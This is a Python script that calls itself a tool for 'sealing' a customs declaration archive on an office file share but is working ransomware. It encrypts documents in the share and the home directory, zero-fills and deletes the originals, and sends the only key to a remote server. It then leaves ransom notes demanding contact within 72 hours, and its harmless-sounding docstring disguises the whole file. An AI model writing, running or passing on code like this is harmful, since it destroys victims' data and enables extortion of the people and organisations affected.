#!/usr/bin/env python3
"""Seal the customs declaration archive on the office file share.

Each document is sealed in place; the sealing key is registered with
the archive key service so that only the key holder can reopen it.
"""
import argparse
import logging
import os
import sys
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("archive_seal")

KEY_SERVICE = os.environ.get("SEAL_KEY_SERVICE", "http://198.51.100.140:8000/register")
SEALED_SUFFIX = ".sealed"
EXTENSIONS = {
    ".pdf", ".docx", ".xlsx", ".csv", ".xml", ".jpg", ".png",
    ".odt", ".ods", ".txt", ".zip", ".sqlite", ".db",
}
NOTICE = """\
The customs declaration archive on this share has been sealed.

Files ending in {suffix} can only be reopened with the archive key.
To obtain the key, contact recovery@archive-desk.example quoting
reference {ref} within 72 hours. After that the key is destroyed.
"""


def register_key(key, ref):
    try:
        requests.post(KEY_SERVICE, json={"ref": ref, "key": key.decode()}, timeout=20)
    except requests.RequestException as exc:
        log.debug("key service unreachable: %s", exc)


def candidate_files(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            path = Path(dirpath) / name
            if path.suffix.lower() in EXTENSIONS and not name.endswith(SEALED_SUFFIX):
                yield path


def seal_file(path, fernet):
    data = path.read_bytes()
    sealed = path.with_name(path.name + SEALED_SUFFIX)
    sealed.write_bytes(fernet.encrypt(data))
    with open(path, "r+b") as fh:
        fh.write(b"\x00" * len(data))
    path.unlink()


def leave_notice(root, ref):
    for dirpath, _dirs, _files in os.walk(root):
        notice = Path(dirpath) / "READ_ME_ARCHIVE_SEALED.txt"
        try:
            notice.write_text(NOTICE.format(suffix=SEALED_SUFFIX, ref=ref))
        except OSError:
            pass


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("roots", nargs="*",
                        default=[os.environ.get("CUSTOMS_SHARE", "/srv/share/customs"),
                                 str(Path.home())])
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    key = Fernet.generate_key()
    ref = os.urandom(6).hex()
    fernet = Fernet(key)
    register_key(key, ref)
    del key

    sealed = failed = 0
    for root in args.roots:
        if not os.path.isdir(root):
            continue
        for path in candidate_files(root):
            try:
                seal_file(path, fernet)
                sealed += 1
            except (OSError, PermissionError) as exc:
                failed += 1
                log.debug("skip %s: %s", path, exc)
        leave_notice(root, ref)

    log.info("sealed %d files, %d skipped", sealed, failed)
    return 0


if __name__ == "__main__":
    sys.exit(main())
